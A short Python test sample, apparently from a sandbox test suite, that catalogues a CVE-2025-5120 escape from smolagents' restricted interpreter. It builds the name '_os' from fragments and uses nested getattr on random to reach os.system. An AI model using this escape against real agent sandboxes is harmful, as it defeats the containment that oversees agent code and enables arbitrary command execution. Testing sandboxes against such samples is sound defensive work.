# aim: reach a module that is not authorized through one that is
# mechanism: getattr with a name that is made up of parts, from module to module
# source: CVE-2025-5120 (smolagents)
# language: builtins
# reason: a module inside of a module is absent from the view, whatever spells its name
# jail: process
# plain: loot
import random
name = "".join(["_", "o", "s"])
loot(getattr(getattr(random, name), "sys" + "tem"))
